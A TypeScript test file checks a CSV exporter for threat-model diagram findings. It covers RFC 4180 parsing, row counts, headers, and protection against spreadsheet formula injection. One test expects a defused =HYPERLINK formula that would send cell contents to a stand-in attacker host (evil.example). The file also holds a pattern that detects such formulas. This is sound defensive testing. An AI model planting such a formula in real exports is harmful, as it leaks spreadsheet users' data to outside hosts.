import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { CSV_HEADER, csvRows, toCsv } from '../../../shared/export/csv.ts';
import { toReview } from '../../../shared/export/review.ts';
import { shippedCatalog } from '../../support/catalog.ts';
import { inputOfDiagram, inputOfFile } from '../../support/exports.ts';
import { reviewCatalog } from '../../support/reviewCatalog.ts';
import { HOSTILE_NAMES, SMALL } from '../../support/reviewDiagrams.ts';
import { samplePaths } from '../../support/shipped.ts';

const GOLDEN = path.join(import.meta.dirname, 'golden');
const small = reviewCatalog();
const shipped = await shippedCatalog();

/** The fields of a table, read strictly by RFC 4180. */
function parseCsv(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]];
  let rest = text.replace(/^\uFEFF/, '');
  while (rest !== '') {
    const found = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest);
    if (!found) throw new Error(`no field at ${JSON.stringify(rest.slice(0, 40))}`);
    rows.at(-1)?.push((found[1] ?? found[2] ?? '').replaceAll('""', '"'));
    if (found[3] === '\r\n') rows.push([]);
    rest = rest.slice(found[0].length);
  }
  return rows.slice(0, -1);
}

describe('the CSV table', () => {
  it('is the reviewed one for a small diagram and for hostile names', async () => {
    await expect(toCsv(inputOfDiagram(SMALL, small))).toMatchFileSnapshot(path.join(GOLDEN, 'small.csv'));
    await expect(toCsv(inputOfDiagram(HOSTILE_NAMES, small))).toMatchFileSnapshot(path.join(GOLDEN, 'hostile.csv'));
  });

  it('has one row a finding, all as wide as the header, gaps with the numbers of the review', () => {
    for (const file of samplePaths()) {
      const input = inputOfFile(file, shipped);
      const [header = [], ...rows] = parseCsv(toCsv(input));
      const { gaps, questions } = toReview(input);
      expect(rows).toHaveLength(input.report.findings.length);
      expect(new Set(rows.map((row) => row.length))).toEqual(new Set([header.length]));
      const column = (name: string) => rows.map((row) => row[header.indexOf(name)]);
      expect(column('number')).toEqual([...gaps.map(({ number }) => String(number)), ...questions.map(() => '')]);
      expect(column('key')).toEqual([...gaps, ...questions].map(({ key }) => key));
      expect(new Set(column('file'))).toEqual(new Set([path.basename(file)]));
    }
  });

  it('has no cell that a spreadsheet would calculate, also where it splits cells at semicolons', () => {
    const cells = parseCsv(toCsv(inputOfDiagram(HOSTILE_NAMES, small))).flat();
    const split = cells.flatMap((cell) => cell.split(/[;\t|]/));
    expect(split.filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(cells.filter((cell) => /[\p{Cc}\u202A-\u202E\u2066-\u2069]/u.test(cell))).toEqual([]);
  });

  it('is a header alone for an empty diagram, and joins: rows of several diagrams under one header', () => {
    const empty = { ...SMALL, boundaries: [], resources: [], flows: [], suppressions: [], texts: [] };
    expect(toCsv(inputOfDiagram(empty, small))).toBe(CSV_HEADER);
    expect(CSV_HEADER).toMatch(/^\uFEFFfile,/);
    const [one, two] = [inputOfDiagram(SMALL, small), inputOfDiagram(HOSTILE_NAMES, small)];
    const joined = parseCsv(CSV_HEADER + csvRows(one) + csvRows(two));
    expect(joined).toHaveLength(1 + one.report.findings.length + two.report.findings.length);
  });
});
